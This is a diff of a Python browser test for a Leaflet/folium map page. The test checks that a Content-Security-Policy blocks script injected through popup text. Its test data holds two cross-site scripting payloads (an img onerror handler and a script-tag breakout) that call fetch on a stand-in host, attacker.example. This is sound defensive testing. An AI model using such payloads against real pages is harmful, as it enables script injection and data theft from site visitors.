@@ -204,6 +204,7 @@ def test_the_page_scrolls_on_over_a_map_which_zooms_only_when_asked(make, new_pa
                 f"before => ({ZOOMS})(document.querySelector('iframe'))[0] !== before",
                 arg=before[0],
             )
+            inside.locator(".leaflet-zoom-anim").first.wait_for(state="detached")
         else:
             page.wait_for_function("scrollY === 100")
             assert frame.evaluate(ZOOMS) == before
@@ -224,14 +225,25 @@ def test_the_page_scrolls_on_over_a_map_which_zooms_only_when_asked(make, new_pa
     wheel(100, zooms=False)
 
 
-ATTACK = """<img src="x" onerror="window.hit = 1; fetch('https://attacker.example/')">
-<script>window.hit = 2</script><iframe srcdoc="<script>parent.hit = 3</script>"></iframe>"""
+ATTACKS = {
+    "an event": """<img src="x" onerror="window.hit = 1; fetch('https://attacker.example/')">""",
+    "a script": "</script><script>window.hit = 1; fetch('https://attacker.example/')</script>",
+}
+#: A picture that fails to load, as that of an attack did before it.
+LATER = """new Promise((done) => {
+  const image = document.createElement("img");
+  image.onerror = () => setTimeout(done);
+  image.src = "y";
+})"""
 
 
 @pytest.mark.parametrize("policy", [True, False])
-def test_a_script_in_somebodys_text_runs_only_without_the_policy(policy, new_page, tmp_path):
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
+def test_a_script_in_somebodys_text_runs_only_without_the_policy(
+    attack, policy, new_page, tmp_path
+):
     drawn = ex.maps.base(ex.load(), "With a guest")
-    folium.Marker((50, 30), popup=folium.Popup(ATTACK, show=True)).add_to(drawn)
+    folium.Marker((50, 30), popup=folium.Popup(attack)).add_to(drawn)
     text = drawn.get_root().page()
     if not policy:
         text = re.sub(r"<meta http-equiv=.Content-Security-Policy[^>]*>", "", text)
@@ -241,8 +253,7 @@ def test_a_script_in_somebodys_text_runs_only_without_the_policy(policy, new_pag
     page.on("request", lambda request: asked.append(request.url))
     page.route("https://**", lambda route: route.abort())
     page.goto((tmp_path / "map.html").as_uri())
-    page.locator(".leaflet-popup-content").wait_for()
-    page.wait_for_load_state("networkidle")
+    page.evaluate(LATER)
     assert bool(page.evaluate("window.hit")) != policy
     assert any("attacker" in url for url in asked) != policy
 
